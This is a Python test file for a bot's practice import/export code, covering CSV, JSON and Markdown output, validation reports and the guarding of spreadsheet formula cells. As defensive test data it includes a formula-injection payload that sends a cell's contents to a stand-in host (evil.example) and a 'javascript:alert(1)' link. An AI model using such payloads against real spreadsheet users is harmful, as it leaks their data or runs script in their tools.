"""Export to CSV, JSON and Markdown; import from CSV with a report, all accepted rows or none."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text
from sqlmodel import func, select

from bot.db import session_scope
from bot.models import Role
from bot.models.practices import Practice, PracticeStatus, ReviewAction
from bot.practices_io import (
    CSV_COLUMNS,
    CSV_HEADER,
    FORMULA_STARTS,
    ImportRefused,
    export_practices,
    guard_cell,
    import_practices,
    unguard_cell,
)
from bot.services import Services
from tests.practices.conftest import add_city, add_member, practice


def count(services: Services) -> int:
    with session_scope(services.engine) as session:
        return int(session.exec(select(func.count()).select_from(Practice)).one())


def write_csv(path: Path, rows: list[list[str]], *, header: str = CSV_HEADER, bom: bool = False) -> Path:
    buffer = io.StringIO()
    buffer.write(header + "\r\n")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode("utf-8"))
    return path


def row(title: str, city: str = "Lisbon", **fields: str) -> list[str]:
    values = {
        "title": title, "city": city, "themes": "anti-rumours;education", "summary": "A short summary.",
        "description": "What was done.", "results": "", "contact": "", "links": "", "language": "pt",
        "status": "",
    } | fields
    return list(values.values())


@pytest.fixture
def filled(services: Services) -> Services:
    lisbon = add_city(services, "Lisbon", "PT", "pt")
    odesa = add_city(services, "Odesa", "UA", "uk")
    boss = add_member(services, "boss", role=Role.icc_team)
    first = services.practices.submit(author=boss, data=practice(
        lisbon, title="Agentes anti-rumor", summary="Voluntários, \"factos\", vírgulas, e aspas.",
        description="Linha 1\nLinha 2; com ponto e vírgula", results="Menos rumores.", contact="ana@example.org",
        links="https://example.org/a\nhttps://example.org/b", language="pt", themes=["anti-rumours", "education"]))
    services.practices.submit(author=boss, data=practice(
        odesa, title="Міський форум", summary="Форум 🙂", description="Опис", language="uk", themes=["youth"]))
    assert first.id is not None
    for action in (ReviewAction.approve, ReviewAction.publish):
        services.practices.review(reviewer=boss, practice_id=first.id, action=action)
    services.practices.add_translation(practice_id=first.id, language="en", title="Anti-rumour agents",
                                       summary="Volunteers.")
    return services


def test_round_trip_through_csv(filled: Services, tmp_path: Path) -> None:
    out = io.StringIO(newline="")
    assert export_practices(filled.engine, "csv", out) == 2
    path = tmp_path / "practices.csv"
    path.write_text(out.getvalue(), encoding="utf-8", newline="")
    assert out.getvalue().splitlines()[0] == CSV_HEADER
    # Into the same database: every row is a duplicate.
    report = import_practices(filled.engine, path)
    assert report.imported == 0 and [r.row for r in report.rejected] == [2, 3]
    assert "Already in the database as practice #" in report.rejected[0].reason
    # Into a database with the same cities and no practices: everything comes back, identical.
    with session_scope(filled.engine) as session:
        for table in ("practicereview", "practicetranslation", "practicetheme", "practice"):
            session.execute(text(f"DELETE FROM {table}"))
        filled.practices.index.clear(session)
    progress: list[tuple[int, int]] = []
    report = import_practices(filled.engine, path, progress=lambda done, total: progress.append((done, total)))
    assert (report.imported, report.rejected) == (2, [])
    assert progress[0] == (0, 2) and progress[-1] == (2, 2)
    again = io.StringIO(newline="")
    export_practices(filled.engine, "csv", again)
    assert again.getvalue() == out.getvalue()
    assert filled.practices.search(words="rumores").hits[0].title == "Agentes anti-rumor"


def test_export_formats_and_status_filter(filled: Services) -> None:
    out = io.StringIO()
    assert export_practices(filled.engine, "json", out) == 2
    records = json.loads(out.getvalue())
    assert records[0]["links"] == ["https://example.org/a", "https://example.org/b"]
    assert records[0]["translations"] == {"en": {"title": "Anti-rumour agents", "summary": "Volunteers."}}
    assert records[1]["summary"] == "Форум 🙂" and records[1]["status"] == "submitted"
    out = io.StringIO()
    assert export_practices(filled.engine, "markdown", out, status=PracticeStatus.published) == 1
    markdown = out.getvalue()
    assert "Agentes anti-rumor\n" in markdown
    assert "*Lisbon (PT) · anti-rumours, education · pt · published*" in markdown
    assert "Міський форум" not in markdown and "- <https://example.org/b>" in markdown
    empty = io.StringIO()
    assert export_practices(filled.engine, "json", empty, status="rejected") == 0
    assert json.loads(empty.getvalue()) == []


def test_a_utf8_file_with_bom_imports(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    add_city(services, "Düdelingen", "LU", "lb,fr,de")
    path = write_csv(tmp_path / "bom.csv", [row("Um"), row("Zwei", city="dudelingen", language="de")], bom=True)
    report = import_practices(services.engine, path)
    assert (report.imported, report.rejected) == (2, [])
    published = services.practices.search(words="", status=PracticeStatus.published).hits
    assert {hit.city for hit in published} == {"Lisbon", "Düdelingen"}


def test_a_wrong_header_refuses_the_whole_file(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    path = write_csv(tmp_path / "bad.csv", [row("Um")], header="name,city,themes")
    with pytest.raises(ImportRefused) as caught:
        import_practices(services.engine, path)
    assert CSV_HEADER in str(caught.value) and "name,city,themes" in str(caught.value)
    assert count(services) == 0
    (tmp_path / "empty.csv").write_bytes(b"")
    with pytest.raises(ImportRefused) as caught:
        import_practices(services.engine, tmp_path / "empty.csv")
    assert CSV_HEADER in str(caught.value)


def test_bad_encoding_refuses_the_whole_file(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    path = tmp_path / "latin1.csv"
    path.write_bytes((CSV_HEADER + "\r\nAção,Lisbon,youth,s,d,,,,pt,\r\n").encode("latin-1"))
    with pytest.raises(ImportRefused) as caught:
        import_practices(services.engine, path)
    assert "not UTF-8" in str(caught.value)
    assert count(services) == 0


def test_malformed_csv_refuses_the_whole_file(services: Services, tmp_path: Path) -> None:
    path = tmp_path / "quote.csv"
    path.write_text(CSV_HEADER + '\r\n"unclosed,Lisbon\r\nx"y,z\r\n', encoding="utf-8")
    with pytest.raises(ImportRefused):
        import_practices(services.engine, path)
    nul = tmp_path / "nul.csv"
    nul.write_bytes((CSV_HEADER + "\r\nA\x00B,Lisbon,youth,s,d,,,,pt,\r\n").encode())
    add_city(services, "Lisbon")
    report = import_practices(services.engine, nul)  # NUL bytes are stripped like in a form
    assert report.imported == 1


def test_invalid_and_duplicated_rows_are_reported_and_the_rest_imported(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    add_city(services, "Oslo", "NO", "nb")
    rows = [
        row("Good one"),                                   # 2
        row(""),                                           # 3 empty title
        row("Unknown city", city="Atlantis"),              # 4
        row("Bad theme", themes="gardening"),              # 5
        row("Long", description="x" * 100_000),            # 6
        row("GOOD ONE"),                                   # 7 duplicate of row 2 (case-insensitive)
        row("Good one", city="Oslo", language="nb"),       # 8 same title, other city: fine
        row("Bad link", links="javascript:alert(1)"),      # 9
        row("Bad status", status="archived"),              # 10
        row("Short", "Lisbon", language="xx"),             # 11
        ["too", "few"],                                    # 12
        [""] * 10,                                         # 13 blank line: skipped silently
        row("Rejected one", status="rejected"),            # 14
    ]
    report = import_practices(services.engine, write_csv(tmp_path / "mixed.csv", rows))
    reasons = {r.row: r.reason for r in report.rejected}
    assert report.imported == 3
    assert sorted(reasons) == [3, 4, 5, 6, 7, 9, 10, 11, 12]
    assert "title cannot be empty" in reasons[3]
    assert "Atlantis" in reasons[4]
    assert "gardening" in reasons[5]
    assert "100000 characters" in reasons[6]
    assert "Duplicate of row 2" in reasons[7]
    assert "web link" in reasons[9]
    assert "archived" in reasons[10]
    assert "2 values instead of 10" in reasons[12]
    assert count(services) == 3
    french = import_practices(services.engine, write_csv(tmp_path / "again.csv", [row("Good one")]), locale="fr")
    assert french.rejected[0].reason.startswith("Déjà dans la base comme pratique n°")


def test_nothing_is_written_when_something_unexpected_fails(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    path = write_csv(tmp_path / "five.csv", [row(f"Practice {n}") for n in range(5)])

    def explode(done: int, total: int) -> None:
        if done == 3:
            raise OSError("disk full")

    with pytest.raises(OSError):
        import_practices(services.engine, path, progress=explode)
    assert count(services) == 0
    assert services.practices.search(words="practice", status=None).hits == []
    assert import_practices(services.engine, path).imported == 5


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
    "summary": "+1 for the welcome desk",
    "description": "-5% of rumours in a year\n=SUM(A1:A9) inside a cell is harmless",
    "results": "'=1+1 was typed with its apostrophe",  # an apostrophe that is text, before a formula sign
    "contact": "@ana_lisbon",
}


def test_csv_cells_that_a_spreadsheet_would_run_are_guarded_and_import_back(
    services: Services, tmp_path: Path
) -> None:
    lisbon = add_city(services, "Lisbon", "PT", "pt")
    boss = add_member(services, "boss", role=Role.icc_team)
    services.practices.submit(author=boss, data=practice(lisbon, themes=["youth"], **FORMULAS))
    services.practices.submit(author=boss, data=practice(lisbon, title="'Quoted' is only text", themes=["youth"]))
    out = io.StringIO(newline="")
    assert export_practices(services.engine, "csv", out) == 2
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    first, second = (dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:])
    assert first["title"] == "'" + FORMULAS["title"]
    assert first["summary"] == "'+1 for the welcome desk" and first["contact"] == "'@ana_lisbon"
    assert first["description"].startswith("'-5% of rumours")
    assert first["results"] == "''=1+1 was typed with its apostrophe"
    assert second["title"] == "'Quoted' is only text"  # no formula sign after it: not a guard
    # Into a database with the same city and no practices: the exact texts come back, and export alike.
    path = tmp_path / "formulas.csv"
    path.write_text(out.getvalue(), encoding="utf-8", newline="")
    with session_scope(services.engine) as session:
        for table in ("practicereview", "practicetranslation", "practicetheme", "practice"):
            session.execute(text(f"DELETE FROM {table}"))
        services.practices.index.clear(session)
    report = import_practices(services.engine, path)
    assert (report.imported, report.rejected) == (2, [])
    with session_scope(services.engine) as session:
        stored = {p.title: p for p in session.exec(select(Practice))}
    formula = stored[FORMULAS["title"]]
    assert {field: getattr(formula, field) for field in FORMULAS} == FORMULAS
    assert "'Quoted' is only text" in stored
    again = io.StringIO(newline="")
    export_practices(services.engine, "csv", again)
    assert again.getvalue() == out.getvalue()


def test_a_guard_put_by_another_tool_is_removed_too(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    path = write_csv(tmp_path / "guarded.csv", [row("'@home: housing first", contact="'+351 21 000 0000")])
    assert import_practices(services.engine, path).imported == 1
    with session_scope(services.engine) as session:
        imported = session.exec(select(Practice)).one()
    assert (imported.title, imported.contact) == ("@home: housing first", "+351 21 000 0000")


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "é"]), max_size=8)
       | st.text(max_size=20))
def test_guarding_a_cell_is_undone_exactly(value: str) -> None:
    guarded = guard_cell(value)
    assert not guarded.startswith(FORMULA_STARTS)
    assert unguard_cell(guarded) == value
    assert guarded in (value, "'" + value)
